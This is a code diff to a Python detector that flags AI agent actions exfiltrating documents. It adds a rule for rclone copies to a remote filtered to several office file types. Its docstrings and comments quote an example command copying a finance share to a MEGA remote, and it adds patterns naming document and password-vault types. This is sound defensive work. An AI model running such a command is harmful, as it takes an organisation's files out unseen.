@@ -33,7 +33,10 @@ What it catches
     .hosts()`) and packed into one archive: collection staged to be taken; office documents
     picked by type out of a user's home or every home (`EXT = (".docx", ".pdf", ...)` ...
     `f.endswith(EXT)` over `os.walk("C:\\Users")`), packed into one archive and posted to a
-    web endpoint (an infostealer's collection, T1119 with T1560 and T1041). A
+    web endpoint (an infostealer's collection, T1119 with T1560 and T1041); as an agent
+    action, a sync tool's copy to a remote filtered to several office document types (`rclone
+    copy \\\\fs01\\Finance mega:x --include "*.{xlsx,pdf,docx}"`): a folder's documents
+    collected by kind and taken (T1567). A
     database dump uploaded to a bare public address is ACT-DATABASE-EXFIL's.
 
 Why it is a redline (RL-EXFIL)
@@ -57,10 +60,13 @@ Allowed instead
     backup sent to one's own bucket or to a machine of one's own network, an inventory of the
     shares of one's servers (names, sizes, permissions), a backup of one named share, one's
     documents archived to one's own drive or uploaded to one's bucket through the storage
-    service's SDK.
+    service's SDK, a share synced whole to one's backup remote, one type of one's own files
+    kept in step (`rclone copy ~/Documents/receipts gdrive:receipts --include '*.pdf'`).
 """
 
 from __future__ import annotations
+
+import re
 
 from redline.redlines.capabilities import Capabilities
 from redline.redlines.capabilities import Capability as Cap
@@ -84,6 +90,30 @@ _PACKED_THEN_POSTED = 1500
 """How far apart (characters) packing documents into an archive and posting it may lie: steps
 of one script, about 30 lines (the development sets' collectors: 40 to 90 characters, the
 farthest 1,270); beyond it, an archive made in one example and a post in another."""
+
+
+_SYNC_TO_REMOTE = re.compile(r"rclone(?:\.exe)?\s+(?:copy|sync|move|copyto)\b", re.I)
+"""A sync tool's copy to a remote (rclone's)."""
+
+
+_OFFICE_TYPE = re.compile(r"\b(docx?|xlsx?|pptx?|pdf|kdbx|pst)\b", re.I)
+
+
+def _synced_by_type(found: Capabilities) -> bool:
+    """Whether a sync tool's copy to a remote is filtered, on its own line, to several office
+    document types (`--include "*.{xlsx,pdf,docx}"`): documents collected by kind, where one
+    type kept in step (`--include '*.pdf'` of one's invoices) is a folder's sync."""
+    for send in found.hits.get(Cap.NET_SEND, ()):
+        if not _SYNC_TO_REMOTE.match(send.text):
+            continue
+        picked = " ".join(
+            hit.text
+            for hit in found.hits.get(Cap.DOCUMENT_SELECTION, ())
+            if found.same_line(send.start, hit.start)
+        )
+        if len({m.group(1).lower().rstrip("x") for m in _OFFICE_TYPE.finditer(picked)}) >= 2:
+            return True
+    return False
 
 
 def _looked_up_after(found: Capabilities, shaping: Cap) -> bool:
@@ -227,6 +257,12 @@ def covert_exfil(found: Capabilities) -> Detection | None:
         return supported(
             found, 0.75, (*picked, Cap.NET_SEND), "a user's documents picked by type and posted"
         )
+    if found.kind == "action" and _synced_by_type(found):
+        # A sync tool told to take only office documents (`rclone copy \\fs01\Finance
+        # mega:x --include "*.{xlsx,pdf,docx}"`) to a remote: a folder's documents picked by
+        # type and taken, where a backup copies the folder whole (or its own archive's parts).
+        synced = (Cap.DOCUMENT_SELECTION, Cap.NET_SEND)
+        return supported(found, 0.75, synced, "a folder's documents picked by type and synced out")
     if found.has_all(*_COLLECTED):
         # Documents picked by type out of the shares of every host of an address range and
         # packed into one archive: what is collected and staged to be taken, whichever way it
